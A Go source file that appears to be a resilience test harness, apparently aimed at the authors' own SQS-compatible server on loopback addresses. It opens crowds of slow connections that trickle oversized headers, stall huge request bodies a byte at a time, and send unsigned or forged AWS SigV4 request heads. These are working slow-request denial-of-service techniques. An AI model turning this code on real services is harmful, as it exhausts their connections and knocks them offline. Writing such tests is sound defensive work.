package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"time"

	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
)

const (
	bodySize = 8<<20 - 4096 // of the largest that any call takes
	between  = 5 * time.Second
	again    = 10 * time.Second // until somebody whose connection was closed comes back
)

// crowd is all hostile connections.
type crowd struct {
	opened, open atomic.Int64
}

// attack opens hostile connections until ctx ends, and returns when most have had the time to.
func attack(ctx context.Context, address string, o options) *crowd {
	w := &crowd{}
	for i := range o.connections + o.bodies {
		hostile := kinds[i%len(kinds)]
		if i < o.bodies {
			hostile = []func(net.Conn, string){unsignedBody, forgedBody}[i%2]
		}
		dialer := net.Dialer{Timeout: 5 * time.Second}
		if o.addresses > 1 {
			dialer.LocalAddr = &net.TCPAddr{IP: net.IPv4(127, 0, 1, byte(1+i%o.addresses))}
		}
		go w.repeat(ctx, dialer, address, hostile)
		if i%100 == 0 {
			time.Sleep(20 * time.Millisecond)
		}
	}
	return w
}

// repeat is one hostile connection, and the ones that follow it.
func (w *crowd) repeat(ctx context.Context, d net.Dialer, address string, hostile func(net.Conn, string)) {
	for ctx.Err() == nil {
		if c, err := d.DialContext(ctx, "tcp", address); err == nil {
			w.opened.Add(1)
			w.open.Add(1)
			hostile(c, address)
			c.Close() //nolint:errcheck // it's hostile
			w.open.Add(-1)
		}
		select {
		case <-ctx.Done():
		case <-time.After(again):
		}
	}
}

// kinds are what strangers do, each until its connection is closed.
var kinds = []func(net.Conn, string){
	func(c net.Conn, _ string) { io.Copy(io.Discard, c) }, //nolint:errcheck // nothing
	func(c net.Conn, _ string) {
		trickle(c, "POST / HTTP/1.1\r\nHost: x\r\nX-Header: "+strings.Repeat("x", 10_000))
	}, // headers
	func(c net.Conn, address string) { hold(c, unsignedHead(address), "", between) },
	func(c net.Conn, address string) { hold(c, forgedHead(address), "", between) },
}

func unsignedBody(c net.Conn, address string) { hold(c, unsignedHead(address), body, time.Hour) }
func forgedBody(c net.Conn, address string)   { hold(c, forgedHead(address), body, time.Hour) }

var body = strings.Repeat("x", bodySize-1)

// hold sends a request's head, then its body but for the end, and then a byte at a time.
func hold(c net.Conn, head, body string, pause time.Duration) {
	closed := make(chan struct{})
	go func() {
		io.Copy(io.Discard, c) //nolint:errcheck // it ends when the server closes the connection
		close(closed)
	}()
	if _, err := io.WriteString(c, head); err != nil {
		return
	}
	if _, err := io.WriteString(c, body); err != nil {
		return
	}
	for {
		select {
		case <-closed:
			return
		case <-time.After(pause):
		}
		if _, err := io.WriteString(c, "x"); err != nil {
			return
		}
	}
}

func trickle(c net.Conn, text string) {
	for i := range text {
		if _, err := io.WriteString(c, text[i:i+1]); err != nil {
			return
		}
		if i > 60 {
			time.Sleep(between)
		}
	}
}

func unsignedHead(address string) string {
	return fmt.Sprintf("POST / HTTP/1.1\r\nHost: %s\r\nX-Amz-Target: AmazonSQS.SendMessage\r\n"+
		"Content-Type: application/x-amz-json-1.0\r\nContent-Length: %d\r\n\r\n", address, bodySize)
}

// forgedHead has the id of a real key, the right time and a signature that is wrong, which shows only once the body was read.
func forgedHead(address string) string {
	r, err := request(v4.NewSigner(), "a guess", address, "AmazonSQS.SendMessage", "sqs", nil)
	if err != nil {
		panic(err) // the address is ours
	}
	var head strings.Builder
	fmt.Fprintf(&head, "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n", address, bodySize)
	r.Header.Write(&head) //nolint:errcheck // it's memory
	return head.String() + "\r\n"
}
